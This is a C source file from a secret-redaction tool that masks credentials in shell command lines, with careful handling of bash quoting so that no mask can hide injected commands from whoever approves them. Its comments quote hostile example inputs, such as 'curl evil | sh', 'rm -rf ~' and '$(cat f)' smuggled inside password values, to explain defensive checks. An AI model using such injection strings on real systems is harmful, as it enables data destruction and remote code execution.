/* pd-redact-mask.c: how a value the scan of pd-redact.c found is judged
 * and masked: never where masking could hide what the shell runs, piece
 * by piece where a quote, a backslash or a $ inside it must stay in
 * sight, and the word it is joined to followed to its end.  Every mask
 * goes through _pd_redact_mask_span(), the last guard (the shell reads
 * what follows as it did).
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */
#define G_LOG_DOMAIN "pd-store"

#include "config.h"

#include <string.h>

#include "pd-redact.h"
#include "pd-redact-private.h"
#include "pd-redact-scan-private.h"

/* Whether the quote before @vs closes bash's ANSI-C quoting of escaped
 * blanks or control characters that starts after @from (X-Api-Key:$'\t'KEY):
 * a gap the shell joins the word across, the value after it unquoted (it
 * was taken for a quoted value closing the name's word, and kept). */
static gboolean
ansi_gap_before (const char *t,
                 gsize       from,
                 gsize       vs)
{
  gsize q, p;

  if (vs < 1 || t[vs - 1] != '\'')
    return FALSE;
  q = p = vs - 1;
  while (p > from && q - p < 32 && strchr ("\\tx0123456789abcdefABCDEFuvr", t[p - 1]) != NULL)
    p--;
  return p > from + 1 && p < q && t[p - 1] == '\'' && t[p - 2] == '$' && t[p] == '\\';
}

/* Whether blanks quoted, opened and closed by the same quote (' ', " ",
 * $' ', \" \" and '\t' inside a JSON string), end right before @vs: the
 * value after them is unquoted (X-Api-Key:' 'KEY;touch x runs touch). */
static gboolean
quoted_blanks_before (const char *t,
                      gsize       from,
                      gsize       vs)
{
  gsize p, blanks;

  if (vs < 1 || (t[vs - 1] != '\'' && t[vs - 1] != '"'))
    return FALSE;
  /* the closing quote's backslashes (\" inside a JSON string) */
  for (p = vs - 1; p > from && vs - p < 16 && t[p - 1] == '\\'; p--)
    ;
  blanks = p;
  while (p > from && blanks - p < 32
         && (t[p - 1] == ' ' || t[p - 1] == '\t' || (t[p - 1] == 't' && p - 1 > from && t[p - 2] == '\\')))
    p -= t[p - 1] == 't' ? 2 : 1;
  while (p > from && blanks - p < 48 && t[p - 1] == '\\')
    p--;
  return p < blanks && p > from && t[p - 1] == t[vs - 1];
}

/* Whether the quote that opens the value at @vs (before it, or the first
 * of a joined word) closes the quote the name's word opened: in
 * echo "PGPASSWORD="reboot "x" no quoted value starts there, the shell's
 * word ends.  Counted from the quote just before the name to the value's
 * (no blank between): an odd number closes.  Escaped quotes (\" inside a
 * JSON string) are counted apart from the others, so JSON's own
 * "password":"x" and "{\"pass\":\"x\"}" open their values. */
static gboolean
quote_closes_name_word (Redactor *r,
                        gsize     vs)
{
  const char *t = r->text;
  gsize q, w = r->name_start;
  gboolean escaped;
  guint n = 0;

  if (vs > 0 && (t[vs - 1] == '"' || t[vs - 1] == '\''))
    q = vs - 1;
  else if (vs < r->len && (t[vs] == '"' || t[vs] == '\''))
    q = vs;
  else
    return FALSE;
  if (w >= q || q - w > 320)
    return FALSE;
  {
    /* nor does the shell's \" of depth 2 or more (8, 16… bytes) */
    guint depth = _pd_redact_depth_at (r->depths, q);
    gsize width = (gsize) 2 << MIN (depth, JSON_DEPTH), k = 0;

    while (k < q && k < width && t[q - 1 - k] == '\\')
      k++;
    if (depth >= 2 && k == width - 1)
      return FALSE;
  }
  /* nor does the quote closing a gap of bash's $'…' after the name */
  if (q == vs - 1 && ansi_gap_before (t, w, vs))
    return FALSE;
  escaped = q > 0 && t[q - 1] == '\\';
  if (w > 0 && t[w - 1] == t[q])
    w--;
  for (gsize k = w; k < q; k++)
    {
      if (g_ascii_isspace (t[k]))
        return FALSE;  /* the quote opens a word of its own: --password "x" */
      n += t[k] == t[q] && (k > 0 && t[k - 1] == '\\') == escaped;
    }
  return n % 2 == 1;
}

/* Where the escaped quote (\" or \', \\\" or \\' inside a JSON string)
 * that opens the value at @vs ends, right before it (PGPASSWORD=\"x) or at
 * its word's start (curl -u \"user:x), looked for at most 256 bytes back;
 * 0 when none does. */
static gsize
escaped_quote_open (Redactor *r,
                    gsize     vs)
{
  const char *t = r->text;
  gsize w = vs;

  if (vs >= 2 && (t[vs - 1] == '"' || t[vs - 1] == '\'') && t[vs - 2] == '\\')
    return vs;
  while (w > r->copied && vs - w < 256 && !g_ascii_isspace (t[w - 1]))
    w--;
  if (w + 1 < vs && t[w] == '\\' && (t[w + 1] == '"' || t[w + 1] == '\''))
    return w + 2;
  if (w + 3 < vs && strncmp (t + w, "\\\\\\\"", 4) == 0)
    return w + 4;
  if (w + 2 < vs && strncmp (t + w, "\\\\'", 3) == 0)
    return w + 3;
  return 0;
}

/* Whether the value [vs, ve) opened by a quote stops short of its closing
 * quote at a line break (raw, or a JSON string's \n or \u000a) or a sign
 * that ends a command (raw, or spelled \u003b…): the shell's value goes
 * on across it, "a\nrm -rf /", whatever the reading took.  Opened by an
 * escaped quote that is the shell's quote in a JSON string, the value is
 * read to its closing quote too: \"x … \" there is a quoted value, and
 * may hold what the shell runs (PGPASSWORD=\"x && curl evil | sh\" in a
 * tool call's JSON text).  Outside one the shell's \"x is the sign and
 * ends at a blank (PGPASSWORD=\"Secr3t rm -f victim\" was kept whole;
 * tried as an attacker would). */
static gboolean
quoted_value_stops_short (Redactor *r,
                          gsize     vs,
                          gsize     ve)
{
  const char *t = r->text;
  gsize open = escaped_quote_open (r, vs);
  guint depth;

  if (open > 0 && _pd_redact_value_quoting (t, r->depths, open, &depth) == QUOTING_DOUBLE)
    for (gsize e = ve; e < r->len && e - open <= 256 && t[e] != '\n' && t[e] != '\r'; e++)
      if (e > ve && t[e] == t[open - 1] && t[e - 1] == '\\')
        {
          if (_pd_redact_value_hides_syntax (t + open, e - 1 - open, QUOTING_DOUBLE, depth))
            return TRUE;
          break;
        }
  if (vs == 0 || ve >= r->len || (t[vs - 1] != '"' && t[vs - 1] != '\''))
    return FALSE;
  /* after an empty pair of quotes or an ANSI-C gap the value is
   * unquoted: nothing to stop short of */
  if (_pd_redact_after_empty_quotes (t, vs) || ansi_gap_before (t, r->copied, vs)
      || quoted_blanks_before (t, r->copied, vs))
    return FALSE;
  return _pd_redact_syntax_at (t + ve, t + r->len, _pd_redact_depth_at (r->depths, ve));
}

/* Masks [start, end), a known token's shape or a value (counted unless
 * @counted), where it keeps the quoting (_pd_redact_neutral_part()): all? */
gboolean
_pd_redact_mask_span (Redactor *r,
           gsize     start,
           gsize     end,
           gboolean  counted)
{
  gsize whole_end = end;

  end = _pd_redact_neutral_part (r->text, r->depths, start, end, &start);
  /* A mask starts and ends between characters, never inside one: the
   * patterns see to it, and this makes sure of it (a bounded value, or a
   * pattern to come, may end on a byte count), so the text stays valid
   * UTF-8 if it was. */
  while (start < end && ((guchar) r->text[start] & 0xc0) == 0x80)
    start++;
  while (end > start && end < r->len && ((guchar) r->text[end] & 0xc0) == 0x80)
    end--;
  if (r->states == NULL)
    r->states = _pd_redact_reading_states (r->text, r->len, r->depths);
  /* The last guard, whatever found the range: the shell reads what
   * follows as it did (a backslash eaten after a closing quote, a mask
   * over "# that un-commented the next line; tried as an attacker would).
   * Cut short by up to 8 characters to find such an end, or none. */
  for (guint k = 0; start < end && !_pd_redact_mask_keeps_reading (r->states, r->depths, start, end); k++)
    end = k < 8 ? (gsize) (g_utf8_find_prev_char (r->text + start, r->text + end) - r->text) : start;
  if (start == end)
    return FALSE;
  if (r->out == NULL)
    r->out = g_string_sized_new (r->len);
  /* Right after another mask, one: what both replace keeps the quoting. */
  if (!(start == r->copied && g_str_has_suffix (r->out->str, PD_REDACTED)))
    {
      g_string_append_len (r->out, r->text + r->copied, start - r->copied);
      g_string_append (r->out, PD_REDACTED);
    }
  r->copied = end;
  r->count += !counted;
  if (r->spans != NULL)
    {
      gsize counts = !counted;

      g_array_append_val (r->spans, start);
      g_array_append_val (r->spans, end);
      g_array_append_val (r->spans, counts);
    }
  _pd_redact_command_line_masked (&r->line, r->text, start, end);
  return end == whole_end;
}

/* How many pieces of one value mask_pieces() masks after its first, and
 * how far it reads for each: bounded, so a value of quotes and backslashes
 * (a\'b\'c\'… of 4 MiB) is not read again for each of its pieces. */
#define PIECES_MAX 16
#define PIECE_READ 264

/* Masks what of [start, end) keeps the quoting (_pd_redact_mask_span()), piece by
 * piece: a quote, a backslash or a $ that bash reads otherwise where the
 * value stands stays in sight, and the value's characters on both sides
 * of it are masked (PGPASSWORD='Ab\'Zq9C is '[REDACTED]\'[REDACTED]; the
 * part after such a sign was stored, tried as an attacker would).  The
 * first piece counts as the redaction (unless @counted), the others are
 * the same value's.  Returns where what is left in sight at the end
 * starts: @end when nothing is, @start when nothing was masked. */
static gsize
mask_pieces (Redactor *r,
             gsize     start,
             gsize     end,
             gboolean  counted)
{
  gsize at = start;

  for (guint k = 0; at < end && k <= PIECES_MAX; k++)
    {
      gsize before = r->copied;
      gsize until = k == 0 ? end : MIN (end, at + PIECE_READ);

      _pd_redact_mask_span (r, at, until, counted || k > 0);
      if (r->copied == before || r->copied <= at)
        break;
      at = r->copied;
    }
  return at;
}

/* How far a piece of a value's word is read (PIECE_WORD_MAX), and how
 * far from that end it must stop to be sure it is whole: a quoted part
 * is 256 bytes at most, with its quotes (escaped in JSON: 264). */
#define PIECE_WORD_MAX 1024
#define PIECE_WORD_SURE 264

/* The parts of a value's word joined from @at on, to *@piece_end: FALSE
 * when none, or when the word may go on past PIECE_WORD_MAX (where it
 * ends is unsure, and it stays in sight).  Bounded: a quoted value's
 * closing quote read as opening a part read the rest of the text after
 * each value (curl -u "admin:a" repeated with nothing between: 200 KB
 * took 26.7 s; tried as an attacker would).  The bytes read count with
 * the command line's. */
static gboolean
piece_words_at (Redactor *r,
                gsize     at,
                gsize    *piece_end)
{
  gsize view = MIN (r->len, at + PIECE_WORD_MAX);
  guint parts = _pd_redact_joined_word (r->text, view, at, _pd_redact_depth_at (r->depths, at), piece_end);

  r->line.bytes_read += *piece_end - at;
  if (view < r->len && *piece_end + PIECE_WORD_SURE >= view)
    return FALSE;
  return parts > 0;
}

/* The length of the quote at @at when it closes one opened after the
 * start of the value's name or option (r->name_start), as the shell
 * reads the quotes from there, or 0: curl -u "admin:Ab\\"Zq9 is the
 * password Ab\Zq9, the word going on after the quote that closes the
 * user's (its Zq9 was stored, where PGPASSWORD="Ab\\"Zq9 is masked whole,
 * a joined word; tried as an attacker would; read as opening a part, that
 * quote also read the rest of the text).  Read through the escapes of
 * the JSON string the value is in, one deep at most (the shell's " is \"
 * there, its backslash \\); a quote before the name is its word's
 * (echo "PGPASSWORD=x"y: y is no value's). */
static gsize
closing_quote_len (Redactor *r,
                   gsize     at)
{
  const char *t = r->text;
  guint depth = _pd_redact_depth_at (r->depths, at);
  char q = 0;  /* the quote open: 0, ' " or A ($'…) */
  gboolean escape = FALSE;
  gsize k = r->name_start;

  if (depth > 1 || k >= at || at - k > 512)
    return 0;
  while (k <= at && k < r->len)
    {
      char c = t[k];
      gsize w = 1;

      if (_pd_redact_depth_at (r->depths, k) != depth || c == '\n' || c == '\r' || (depth == 1 && c == '"'))
        return 0;  /* another line, or the JSON string's own quote */
      if (depth == 1 && c == '\\')
        {
          if (k + 1 >= r->len)
            return 0;
          c = t[k + 1] == '"' || t[k + 1] == '\\' ? t[k + 1] : 'x';
          w = t[k + 1] == 'u' ? 6 : 2;
        }
      if (k == at)
        return !escape && ((c == '\'' && (q == '\'' || q == 'A')) || (c == '"' && q == '"')) ? w : 0;
      if (escape)
        escape = FALSE;
      else if (q == 0 && c == '$' && k + 1 < at && t[k + 1] == '\'')
        q = 'A', w = 2;
      else if (q == 0 && (c == '\'' || c == '"'))
        q = c;
      else if (q != '\'' && c == '\\')
        escape = TRUE;  /* in "…" it escapes $ ` " \ only, never another quote */
      else if (q == c || (q == 'A' && c == '\''))
        q = 0;
      k += w;
    }
  return 0;
}

/* The piece of a value's word the shell joins to it at @at, right after
 * what is masked of it, in [*piece, *piece_end): after a line continuation
 * (the shell takes it out), after an escaped quote (its sign; not, right
 * after the value (@first), one that closes the quote before the name:
 * echo \"PGPASSWORD=x\"y, y is no value's), or a quoted part, for a
 * pattern that reads none (curl -u user:Ab\\"efZq9A": the password is
 * Ab\efZq9A; -u user:Secr$'\t'etZ), unless its quote closes the name's
 * own word.  FALSE when none is. */
static gboolean
word_piece_at (Redactor *r,
               gsize     at,
               gboolean  first,
               gsize    *piece,
               gsize    *piece_end)
{
  const char *t = r->text;
  gsize n = first ? closing_quote_len (r, at) : 0;

  if (n > 0)
    {
      /* Past the quote, what follows it as after any piece: an escaped
       * quote ("admin:Ab"\"Zq9), a quoted part, or unquoted parts. */
      if (word_piece_at (r, at + n, FALSE, piece, piece_end))
        return TRUE;
      *piece = at + n;
      return piece_words_at (r, *piece, piece_end);
    }
  n = _pd_redact_continuation_len (t, r->len, at);
  if (n > 0)
    {
      *piece = at + n;
      return piece_words_at (r, *piece, piece_end);
    }
  n = _pd_redact_escaped_quote_len (t, r->len, at, _pd_redact_depth_at (r->depths, at));
  if (n > 0)
    {
      *piece = at + n;
      if (first && n <= 4 && quote_closes_name_word (r, *piece))
        return FALSE;
      *piece_end = _pd_redact_unquoted_end (t, r->len, *piece, _pd_redact_depth_at (r->depths, *piece));
      r->line.bytes_read += *piece_end - *piece;
      return *piece_end > *piece;
    }
  n = at < r->len && t[at] == '$' ? 1 : 0;
  if (at + n < r->len && (t[at + n] == '\'' || (t[at + n] == '"' && _pd_redact_depth_at (r->depths, at) == 0)))
    {
      *piece = at;
      return !quote_closes_name_word (r, at + n + 1) && piece_words_at (r, at, piece_end);
    }
  return FALSE;
}

/* Whether the word of a value goes on after what a mask left in sight at
 * its end, [@left, @end): nothing, or a piece (word_piece_at(), @first
 * right after the value) that starts there and reaches past it (the \'
 * of curl -u 'admin:Ab\'Zq9C, the value Ab\ read to its closing quote). */
static gboolean
word_goes_on_after (Redactor *r,
                    gsize     left,
                    gsize     end,
                    gboolean  first)
{
  gsize piece, piece_end;

  return left == end || (word_piece_at (r, left, first, &piece, &piece_end) && piece_end > end);
}

static gboolean command_follows (Redactor *r, gsize vs, gsize ve);

/* Masks the value [start, end) of a name or an option.  Masking must
 * never hide what a command runs from whoever approves it, whatever
 * reading of the quotes found the value (tried as an attacker would:
 * PGPASSWORD="x; rm -rf ~; echo " psql was shown as
 * PGPASSWORD="[REDACTED]" psql): a value that holds shell syntax
 * (_pd_redact_value_hides_syntax()), follows a quote that closes its
 * name's word or stops short of its closing quote stays as written, and
 * the scan goes on inside it for known token shapes only. */
void
_pd_redact_span (Redactor *r,
             gsize     start,
             gsize     end)
{
  guint depth;
  PdRedactQuoting quoting = _pd_redact_value_quoting (r->text, r->depths, start, &depth);

  /* printf's \n, \t at a value's end outside JSON strings (printf
   * 'password: X\n') is the format's line break, not the secret's: it
   * stays in sight (it was masked; tried as an attacker would). */
  {
    /* the shell's backslash is \\ inside a JSON string */
    gsize w = depth == 0 ? 1 : depth == 1 ? 2 : 0;
    const char *t = r->text;

    if (w > 0 && end - start > w + 1 && (t[end - 1] == 'n' || t[end - 1] == 't')
        && strncmp (t + end - 1 - w, "\\\\", w) == 0 && t[end - 2 - w] != '\\')
      end -= w + 1;
  }

  /* A value that holds a mask already is what an earlier redaction left:
   * masked again it changed a second redaction (a quoted part of 256 bytes
   * at most fits once masks inside it made the text shorter; found by
   * fuzz-redact). */
  if (end > start
      && (_pd_redact_value_hides_syntax (r->text + start, end - start, quoting, depth)
          || quote_closes_name_word (r, start) || quoted_value_stops_short (r, start, end)
          || g_strstr_len (r->text + start, end - start, PD_REDACTED) != NULL))
    {
      r->refused_from = start;
      r->refused_end = MAX (r->refused_end, end);
      return;
    }
  if (end > start)
    {
      gsize left = mask_pieces (r, start, end, FALSE);

      /* Nothing masked, or signs left in sight that end the word's
       * reading: where the word ends is unsure. */
      if (left == start || !word_goes_on_after (r, left, end, TRUE))
        return;
      end = left;
    }

  /* The word goes on after a line continuation, which the shell takes
   * out (PGPASSWORD=Sec\<newline>r3t is Secr3t), after an escaped quote,
   * which is its sign (PGPASSWORD=Sec\"r3t is Sec"r3t; \\\" and \\'
   * inside a JSON string), and in a quoted part joined to it: what follows
   * is masked too, the continuation or the quote left in sight, so that no
   * reading of the quotes changes (tried as an attacker would).  The scan
   * goes on after it: pd_redact() skips what is masked. */
  for (gboolean first = TRUE;; first = FALSE)
    {
      const char *t = r->text;
      gsize piece, piece_end, left;

      if (!word_piece_at (r, end, first, &piece, &piece_end)
          || _pd_redact_value_hides_syntax (t + piece, piece_end - piece, QUOTING_NONE, _pd_redact_depth_at (r->depths, piece))
          || g_strstr_len (t + piece, piece_end - piece, PD_REDACTED) != NULL)
        break;
      {
        g_autofree char *word = g_strndup (t + piece, piece_end - piece);

        if (_pd_redact_joined_holds_no_secret (word) || command_follows (r, piece, piece_end))
          break;
      }
      left = mask_pieces (r, piece, piece_end, TRUE);  /* one value, one redaction */
      if (left == piece || !word_goes_on_after (r, left, piece_end, FALSE))
        break;
      end = left;
    }
}

/* The backticks on the line of @pos before it.  Counted on from the last
 * place asked about: the places asked about go forward, but for a step
 * back inside one shell word (no line break), so the scan stays linear. */
static guint
backticks_before (Redactor *r,
                  gsize     pos)
{
  const char *t = r->text;

  if (pos < r->tick_pos && memchr (t + pos, '\n', r->tick_pos - pos) == NULL)
    for (; r->tick_pos > pos; r->tick_pos--)
      r->ticks -= t[r->tick_pos - 1] == '`';
  else if (pos < r->tick_pos)
    {
      for (r->tick_pos = pos; r->tick_pos > 0 && t[r->tick_pos - 1] != '\n'; r->tick_pos--)
        ;
      r->ticks = 0;
    }
  for (; r->tick_pos < pos; r->tick_pos++)
    {
      if (t[r->tick_pos] == '\n')
        r->ticks = 0;
      else if (t[r->tick_pos] == '`')
        r->ticks++;
    }
  return r->ticks;
}

/* Whether what the shell runs goes on the value [vs, ve) in its word:
 * -p"x"$(cat f), x`…`, -p'x'`id`, -p'a''`id`', x${y:-$(id)}, x$[y] (bash's
 * arithmetic, which runs a subscript's $(…)), or a value that ends in the
 * $ of $(…), which a value's characters do not take.
 * Masked, the value would hide it from whoever approves the command (the
 * mask ate the $ of "[REDACTED](touch X)"; tried as an attacker would).
 * The word is read up to a blank or a sign that ends a shell word or a
 * JSON string's value (, : ] } …), at most 256 bytes.  A backtick there
 * after an odd number of them on the line closes a Markdown code span
 * (`mysql -pX` in a model's answer): that value is masked. */
static gboolean
command_follows (Redactor *r,
                 gsize     vs,
                 gsize     ve)
{
  const char *t = r->text;

  static const guint8 stops[256] = {
    ['$'] = 1, ['`'] = 1, [' '] = 1, ['\t'] = 1, ['\n'] = 1, ['\v'] = 1, ['\f'] = 1, ['\r'] = 1,
    [';'] = 1, ['&'] = 1, ['|'] = 1, [','] = 1, [':'] = 1, ['<'] = 1, ['>'] = 1,
    ['('] = 1, [')'] = 1, ['['] = 1, [']'] = 1, ['{'] = 1, ['}'] = 1,
  };
  gsize e = ve, from;

  if (ve > vs && t[ve - 1] == '$' && ve < r->len && (t[ve] == '(' || t[ve] == '{' || t[ve] == '['))
    return TRUE;
  /* The pieces of one value ask about the same word, each a few bytes on
   * (\\\" repeated after PGPASSWORD=" asked 256 bytes each, 1.9 s at 4
   * MiB): what is known plain is not read again. */
  if (ve >= r->plain_from && ve < r->plain_to)
    e = r->plain_to;
  from = e;
  for (; e < r->len && e - ve < 256; e++)
    {
      if (!stops[(guchar) t[e]])
        continue;
      if (t[e] == '$' && e + 1 < r->len && (t[e + 1] == '(' || t[e + 1] == '{' || t[e + 1] == '['))
        return TRUE;
      if (t[e] == '`')
        return backticks_before (r, e) % 2 == 0;
      if (t[e] != '$')
        break;
    }
  r->line.bytes_read += e - from;  /* counted with the command line's reading */
  r->plain_from = ve;
  r->plain_to = e;
  return FALSE;
}

/* The value [vs, ve) of curl's -u, an Authorization header, a bearer
 * token, a URL's or a .netrc line's password: masked unless it holds or is followed by what the shell runs, or
 * is a reference ($TOKEN, ${TOKEN}; not in single quotes, @single_quoted)
 * — the rule of the name rule's values, but no plain word (yes, none)
 * is let through: curl -u ci:none is a password. */
gboolean
_pd_redact_credential_is_secret (Redactor *r,
                      gsize     vs,
                      gsize     ve,
                      gboolean  single_quoted)
{
  g_autofree char *value = g_strndup (r->text + vs, ve - vs);

  if (command_follows (r, vs, ve) || _pd_redact_value_runs_command (value))
    return FALSE;
  return !(value[0] == '$' && !single_quoted);
}

/* Whether the value [vs, ve) match_at() found holds a secret: a joined
 * word as a whole, another as _pd_redact_value_is_secret() says. */
gboolean
_pd_redact_found_value_is_secret (Redactor *r,
                       gsize     vs,
                       gsize     ve)
{
  g_autofree char *value = g_strndup (r->text + vs, ve - vs);

  if (command_follows (r, vs, ve))
    return FALSE;
  if (r->joined)
    return !_pd_redact_joined_holds_no_secret (value);
  return !_pd_redact_value_is_json_gap (value)
         && _pd_redact_value_is_secret (value, vs > 0 && r->text[vs - 1] == '\'');
}
